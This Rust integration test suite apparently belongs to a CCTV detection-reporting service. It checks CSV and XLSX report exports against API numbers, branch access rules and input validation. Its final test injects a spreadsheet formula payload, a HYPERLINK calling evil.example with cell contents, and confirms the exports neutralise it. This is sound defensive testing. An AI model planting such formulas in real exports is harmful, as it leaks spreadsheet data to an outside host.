//! Report exports read back (CSV by an RFC 4180 reader, XLSX by unzipping the workbook)
//! and compared with the JSON API's numbers.

use std::collections::HashMap;
use std::io::Read;

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use serde_json::{Value, json};

use crate::helpers::*;
use crate::report_support::*;

/// Status, content type and body of a GET with a bearer token.
async fn download(app: &TestApp, token: &str, path: &str) -> (u16, String, Vec<u8>) {
    let stream = tokio::net::TcpStream::connect(&app.addr).await.unwrap();
    let (mut sender, conn) =
        hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(stream))
            .await
            .unwrap();
    tokio::spawn(conn);
    let req = hyper::Request::get(path)
        .header("host", &app.addr)
        .header("authorization", format!("Bearer {token}"))
        .body(Full::new(Bytes::new()))
        .unwrap();
    let resp = sender.send_request(req).await.unwrap();
    let status = resp.status().as_u16();
    let mime = resp
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned();
    let body = resp
        .into_body()
        .collect()
        .await
        .unwrap()
        .to_bytes()
        .to_vec();
    (status, mime, body)
}

/// An RFC 4180 reader: quoted fields, doubled quotes, CRLF records.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "the document ends a record"
    );
    records
}

/// The cells of worksheet `n` (1-based) by reference (`B3`), shared strings resolved.
fn xlsx_cells(bytes: &[u8], n: usize) -> HashMap<String, String> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip archive");
    let mut read = |name: &str| {
        let mut text = String::new();
        zip.by_name(name)
            .expect(name)
            .read_to_string(&mut text)
            .unwrap();
        text
    };
    let shared: Vec<String> = read("xl/sharedStrings.xml")
        .split("<t>")
        .skip(1)
        .map(|s| s.split("</t>").next().unwrap().to_owned())
        .collect();
    let sheet = read(&format!("xl/worksheets/sheet{n}.xml"));
    let mut cells = HashMap::new();
    for cell in sheet.split("<c ").skip(1) {
        let attr = |name: &str| {
            cell.split(&format!("{name}=\""))
                .nth(1)
                .map(|s| s.split('"').next().unwrap().to_owned())
        };
        let (Some(r), Some(v)) = (attr("r"), cell.split("<v>").nth(1)) else {
            continue;
        };
        let v = v.split("</v>").next().unwrap().to_owned();
        let v = if attr("t").as_deref() == Some("s") {
            shared[v.parse::<usize>().unwrap()].clone()
        } else {
            v
        };
        cells.insert(r, v);
    }
    cells
}

fn summary_value(records: &[Vec<String>], metric: &str) -> String {
    records
        .iter()
        .find(|r| r[0] == "Summary" && r[1] == metric)
        .unwrap_or_else(|| panic!("no {metric} row"))[2]
        .clone()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_parse_back_with_the_numbers_of_the_api() {
    let app = spawn_app_with(
        Backend::Sqlite,
        AppOptions {
            timezone: jakarta(),
            ..Default::default()
        },
    )
    .await;
    let admin = token(&app, "admin", &[]).await;
    post_all(&app, &data_set(&app)).await;

    let api = fresh_report(&app, &admin, "/api/v1/reports/daily?date=2026-10-15").await;
    let (status, mime, body) = download(
        &app,
        &admin,
        "/api/v1/reports/daily/export?date=2026-10-15&format=csv",
    )
    .await;
    assert_eq!((status, mime.as_str()), (200, "text/csv; charset=utf-8"));
    let records = parse_csv(std::str::from_utf8(&body).unwrap());
    assert!(
        records.iter().all(|r| r.len() == records[0].len()),
        "one width"
    );
    assert_eq!(
        summary_value(&records, "Total detections"),
        api["total_detections"].to_string()
    );
    assert_eq!(
        summary_value(&records, "Unique persons"),
        api["unique_persons"].to_string()
    );
    let hours: Vec<&Vec<String>> = records.iter().filter(|r| r[0] == "Hourly").collect();
    assert_eq!(hours.len(), 24);
    for (h, row) in hours.iter().enumerate() {
        assert_eq!(
            row[2],
            api["report_data"]["hourly_breakdown"][h]["detections"].to_string(),
            "hour {h}"
        );
    }

    let monthly: Value = fresh_report(&app, &admin, "/api/v1/reports/monthly?month=2026-10").await;
    let (status, mime, body) = download(
        &app,
        &admin,
        "/api/v1/reports/monthly/export?month=2026-10&format=xlsx",
    )
    .await;
    assert_eq!(status, 200);
    assert!(mime.contains("spreadsheetml"), "{mime}");
    let summary = xlsx_cells(&body, 1);
    assert_eq!(summary["A4"], "Total detections");
    assert_eq!(summary["B4"], monthly["total_detections"].to_string());
    assert_eq!(summary["A5"], "Unique persons");
    assert_eq!(summary["B5"], monthly["unique_persons"].to_string());
    let daily = xlsx_cells(&body, 2);
    assert_eq!(
        (daily["A1"].as_str(), daily["A32"].as_str()),
        ("Date", "2026-10-31")
    );
    assert_eq!(
        daily["B2"],
        monthly["report_data"]["daily_breakdown"][0]["detections"].to_string()
    );

    let dash = get_as(
        &app,
        &admin,
        "/api/v1/reports/dashboard?date_from=2026-10-01&date_to=2026-10-31",
    )
    .await;
    let (_, _, body) = download(
        &app,
        &admin,
        "/api/v1/reports/dashboard/export?date_from=2026-10-01&date_to=2026-10-31",
    )
    .await;
    let records = parse_csv(std::str::from_utf8(&body).unwrap());
    assert_eq!(
        summary_value(&records, "Unique persons"),
        dash.body["data"]["unique_persons"].to_string()
    );
    assert_eq!(records.iter().filter(|r| r[0] == "Daily trend").count(), 31);

    let (status, _, body) = download(
        &app,
        &admin,
        "/api/v1/reports/daily/export?date=2026-10-15&format=pdf",
    )
    .await;
    let error: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(
        (status, error["error"]["code"].as_str()),
        (422, Some("VALIDATION_ERROR"))
    );
    let operator = token(&app, "operator", &[app.branch(0)]).await;
    let (status, _, _) = download(
        &app,
        &operator,
        "/api/v1/reports/monthly/export?month=2026-10",
    )
    .await;
    assert_eq!(
        status, 403,
        "the overall report is not exported to operators"
    );
    app.stop().await;
}

/// The records of a row export with its header row checked.
fn rows_of(body: &[u8], first_header: &str) -> Vec<Vec<String>> {
    let mut records = parse_csv(std::str::from_utf8(body).unwrap());
    let header = records.remove(0);
    assert_eq!(header[0], first_header);
    assert!(records.iter().all(|r| r.len() == header.len()), "one width");
    records
}

/// The rows of worksheet 1, each as its cells A.. as text (inline strings resolved; a
/// cell the sheet leaves out is "").
fn xlsx_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip archive");
    let mut sheet = String::new();
    zip.by_name("xl/worksheets/sheet1.xml")
        .unwrap()
        .read_to_string(&mut sheet)
        .unwrap();
    sheet
        .split("<row ")
        .skip(1)
        .map(|row| {
            let mut cells = Vec::new();
            for c in row.split("<c ").skip(1) {
                // r="F12": column F is index 5.
                let column = c.split("r=\"").nth(1).unwrap().as_bytes()[0] - b'A';
                let (open, close) = if c.contains("t=\"inlineStr\"") {
                    ("<t>", "</t>")
                } else {
                    ("<v>", "</v>")
                };
                let value = c
                    .split(open)
                    .nth(1)
                    .map(|v| v.split(close).next().unwrap().to_owned())
                    .unwrap_or_default();
                cells.resize(usize::from(column), String::new());
                cells.push(value);
            }
            cells
        })
        .collect()
}

async fn json_error(app: &TestApp, token: &str, path: &str) -> (u16, Value) {
    let (status, _, body) = download(app, token, path).await;
    (status, serde_json::from_slice(&body).unwrap_or(Value::Null))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn row_exports_stream_the_filtered_rows_of_each_backend_within_the_callers_branches() {
    for backend in backends() {
        let app = spawn_app_with(
            backend,
            AppOptions {
                timezone: jakarta(),
                ..Default::default()
            },
        )
        .await;
        let posted = data_set(&app);
        post_all(&app, &posted).await;
        let admin = token(&app, "admin", &[]).await;
        let local = |p: &crate::expected::Posted| jakarta().to_datetime(p.at).date();

        // Detections: every row, then one local day of one branch.
        let (status, mime, body) = download(&app, &admin, "/api/v1/exports/detections").await;
        assert_eq!((status, mime.as_str()), (200, "text/csv; charset=utf-8"));
        let all = rows_of(&body, "ID");
        assert_eq!(all.len(), posted.len());
        let total: i64 = all.iter().map(|r| r[8].parse::<i64>().unwrap()).sum();
        assert_eq!(total, posted.iter().map(|p| p.detected_count).sum::<i64>());
        let day: cctv_core::jiff::civil::Date = "2026-10-15".parse().unwrap();
        let b0 = app.branch(0);
        let path = format!(
            "/api/v1/exports/detections?date_from=2026-10-15&date_to=2026-10-15&branch_id={b0}"
        );
        let (_, _, body) = download(&app, &admin, &path).await;
        let got = rows_of(&body, "ID");
        let want: Vec<_> = posted
            .iter()
            .filter(|p| local(p) == day && p.branch_id == b0)
            .collect();
        assert_eq!(got.len(), want.len(), "{backend:?}");
        assert!(
            got.iter()
                .all(|r| r[2] == "2026-10-15" && r[4] == b0.to_string())
        );
        assert!(got.iter().all(|r| r[5] == "Jakarta Branch 1"));

        // An operator of branch 0 gets branch 0 only, and may not ask for another branch.
        let operator = token(&app, "operator", &[b0]).await;
        let (_, _, body) = download(&app, &operator, "/api/v1/exports/events").await;
        let events = rows_of(&body, "ID");
        assert_eq!(
            events.len(),
            posted.iter().filter(|p| p.branch_id == b0).count()
        );
        assert!(events.iter().all(|r| r[3] == b0.to_string()));
        let (status, _) = json_error(
            &app,
            &operator,
            &format!("/api/v1/exports/detections?branch_id={}", app.branch(1)),
        )
        .await;
        assert_eq!(status, 403);
        let (_, _, body) = download(
            &app,
            &admin,
            "/api/v1/exports/events?event_type=alert&format=csv",
        )
        .await;
        assert!(rows_of(&body, "ID").is_empty(), "no alerts were logged");

        // Person-days as XLSX, read back: one row per (person, local date).
        let viewer = token(&app, "viewer", &[]).await;
        let (status, mime, body) = download(
            &app,
            &viewer,
            "/api/v1/exports/persons?date_from=2026-10-01&date_to=2026-10-31&format=xlsx",
        )
        .await;
        assert_eq!(status, 200);
        assert!(mime.contains("spreadsheetml"), "{mime}");
        let sheet = xlsx_rows(&body);
        assert_eq!(sheet[0][0], "Re-ID");
        let mut days: std::collections::HashMap<(String, String), i64> = Default::default();
        for p in posted
            .iter()
            .filter(|p| local(p).month() == 10 && local(p).year() == 2026)
        {
            *days
                .entry((p.re_id.clone(), local(p).to_string()))
                .or_default() += p.detected_count;
        }
        assert_eq!(sheet.len() - 1, days.len(), "{backend:?}");
        for row in &sheet[1..] {
            let key = (row[0].clone(), row[1].clone());
            assert_eq!(row[5], days[&key].to_string(), "{key:?}");
        }

        // Every parameter is validated with the JSON envelope.
        for bad in [
            "/api/v1/exports/detections?format=pdf",
            "/api/v1/exports/detections?date_from=2026-13-01",
            "/api/v1/exports/detections?date_from=2026-10-31&date_to=2026-10-01",
            "/api/v1/exports/detections?branch_id=999999",
            "/api/v1/exports/detections?branch_id=abc",
            "/api/v1/exports/persons?status=gone",
            "/api/v1/exports/events?event_type=fire",
        ] {
            let (status, error) = json_error(&app, &admin, bad).await;
            assert_eq!(
                (status, error["error"]["code"].as_str()),
                (422, Some("VALIDATION_ERROR")),
                "{bad}"
            );
        }
        let (status, _, _) = download(&app, "not-a-token", "/api/v1/exports/persons").await;
        assert_eq!(status, 401);
        app.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_re_id_that_looks_like_a_formula_is_exported_as_text() {
    let app = spawn_app(Backend::Sqlite).await;
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let r = app
        .post_json(&json!({"re_id": evil, "branch_id": app.branch(0), "device_id": app.device(0)}))
        .await;
    assert_eq!(r.status, 202, "{:?}", r.body);
    app.wait_completed(r.body["data"]["job_id"].as_str().unwrap())
        .await;
    let admin = token(&app, "admin", &[]).await;
    for path in ["/api/v1/exports/detections", "/api/v1/exports/persons"] {
        let (status, _, body) = download(&app, &admin, path).await;
        assert_eq!(status, 200);
        let text = String::from_utf8(body).unwrap();
        let fields: Vec<String> = parse_csv(&text).into_iter().flatten().collect();
        assert!(
            fields.iter().any(|f| f == &format!("'{evil}")),
            "{path}: the re_id is written with a leading apostrophe: {fields:?}"
        );
        assert!(
            !fields.iter().any(|f| f.starts_with('=')),
            "{path}: no field starts a formula"
        );
        let (status, _, xlsx) = download(&app, &admin, &format!("{path}?format=xlsx")).await;
        assert_eq!(status, 200);
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
        let mut sheet = String::new();
        zip.by_name("xl/worksheets/sheet1.xml")
            .unwrap()
            .read_to_string(&mut sheet)
            .unwrap();
        assert!(
            !sheet.contains("<f>"),
            "{path}: no formula cell in the workbook"
        );
        assert!(
            sheet.contains("HYPERLINK"),
            "{path}: the re_id is in the sheet, as a string"
        );
    }
    app.stop().await;
}
